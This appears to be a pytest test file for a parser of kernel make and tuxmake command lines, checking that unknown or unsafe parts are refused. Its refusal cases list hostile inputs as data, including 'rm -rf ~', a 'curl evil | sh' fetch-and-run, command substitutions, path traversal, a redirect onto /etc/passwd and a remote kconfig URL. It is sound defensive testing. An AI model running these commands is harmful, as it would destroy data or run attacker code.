"""Command lines of strangers: what is known of make passes, everything else is refused by its name."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bisectsyms.core.makeline import MakeLine, read_make, read_tuxmake
from bisectsyms.inputs.reportknowledge import report_knowledge

VARIABLES = report_knowledge().variables


def typed(text: str) -> MakeLine:
    return read_make(text, VARIABLES, prose=False)


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("-j5; rm -rf ~", "; rm -rf ~"),
        ("-j5 && curl evil | sh", "&& curl evil | sh"),
        ("CC=$(touch x)", "CC=$(touch x)"),
        ("CC=`touch x`", "CC=`touch x`"),
        ("CC=/tmp/evil", "CC=/tmp/evil"),
        ("O=../../..", "O=../../.."),
        ("KCFLAGS=-fplugin=/tmp/x.so", "KCFLAGS=-fplugin=/tmp/x.so"),
        ("KCFLAGS='-Wall -B/tmp'", "KCFLAGS=-Wall -B/tmp"),
        ("KCFLAGS=-Wa,--foo", "KCFLAGS=-Wa,--foo"),
        ("CONFIG_SHELL=/tmp/sh", "CONFIG_SHELL=/tmp/sh"),
        ("SHELL=/bin/bash", "SHELL=/bin/bash"),
        ("LOCALVERSION='$(x)'", "LOCALVERSION=$(x)"),
        ("KBUILD_BUILD_USER='a;b'", "KBUILD_BUILD_USER=a;b"),
        ("ARCH=../../tmp", "ARCH=../../tmp"),
        ("LLVM=/tmp/", "LLVM=/tmp/"),
        ("FOO=1", "FOO=1"),
        ("--eval=x", "--eval=x"),
        ("-f /tmp/Makefile", "-f /tmp/Makefile"),
        ("-C /tmp vmlinux", "-C /tmp"),
        ("../../evil.config", "../../evil.config"),
        ("-j99999", "-j99999"),
        ("-j0", "-j0"),
        ("> /etc/passwd", "> /etc/passwd"),
    ],
)
def test_what_is_refused_is_named(text: str, named: str) -> None:
    line = typed(text)
    assert [refused.what for refused in line.refused] == [named]
    assert not line.variables
    assert not line.configs


def test_what_stands_behind_a_refused_word_still_counts() -> None:
    line = typed("CC=$(evil) -j 8 ARCH=arm W=1 s3c6400_defconfig vmlinux")
    assert (line.jobs, line.configs) == (8, ("s3c6400_defconfig",))
    assert dict(line.variables) == {"ARCH": "arm", "W": "1"}
    assert len(line.refused) == 1


@pytest.mark.parametrize(
    "jobs", ["-j$(nproc)", '-j"$(nproc)"', "-j `nproc`", "-j$(( $(nproc) * 2 ))", "-j${CPUS}", "-j"]
)
def test_jobs_that_only_their_machine_knows_are_not_known(jobs: str) -> None:
    line = typed(f"{jobs} ARCH=arm")
    assert line.jobs == 0
    assert line.variables == (("ARCH", "arm"),)


@pytest.mark.parametrize(
    ("sentence", "jobs", "words"),
    [
        ("-j5 for building with 5 jobs)?", 5, 1),
        ("-j5, and then", 5, 1),
        ("sure that it works", 0, 0),
        ("distclean or starting with a clean tree", 0, 1),
        ("it fail", 0, 0),
    ],
)
def test_in_a_sentence_only_the_words_of_make_count(sentence: str, jobs: int, words: int) -> None:
    line = read_make(sentence, VARIABLES, prose=True)
    assert (line.jobs, line.words, line.refused) == (jobs, words, ())


def test_a_line_of_tuxmake() -> None:
    line = read_tuxmake(
        " --runtime podman --target-arch arm --toolchain gcc-13 --kconfig tinyconfig --kconfig-add CONFIG_SMP=n"
        " --kconfig-add 'CONFIG_CMDLINE=\"a*b\"' --kconfig-add https://evil.example/x -k /etc/passwd LLVM_IAS=1 FOO=1",
        VARIABLES,
    )
    assert dict(line.variables) == {"ARCH": "arm", "CC": "gcc-13", "LLVM_IAS": "1"}
    assert (line.configs, line.kconfig) == (("tinyconfig",), ("CONFIG_SMP=n",))
    assert [one.what for one in line.refused][1:] == ["--kconfig-add https://evil.example/x", "-k /etc/passwd", "FOO=1"]


def test_options_and_targets_of_tuxmake_that_say_nothing_of_the_build() -> None:
    line = read_tuxmake(
        "-r podman -a armhf -t gcc-13 -k x_defconfig -F -d -c never -o out -b obj -w ccache config debugkernel",
        VARIABLES,
    )
    assert dict(line.variables) == {"ARCH": "armhf", "CC": "gcc-13"}
    assert (line.configs, line.refused) == (("x_defconfig",), ())
    assert [one.what for one in read_tuxmake("-r null --pre-build-hook 'rm x'", VARIABLES).refused] == [
        "--pre-build-hook rm x"
    ]


@settings(deadline=None)
@given(st.text(max_size=300))
def test_whatever_is_written_nothing_unknown_passes(text: str) -> None:
    for line in (typed(text), read_make(text, VARIABLES, prose=True), read_tuxmake(text, VARIABLES)):
        assert 0 <= line.jobs <= 1024
        assert all(VARIABLES.lets_in(name, value) for name, value in line.variables)
        assert not any(set(word) & set("`$;&|<>()\\\n ") or ".." in word for word in line.configs)
        assert all(one.what.isprintable() for one in line.refused)
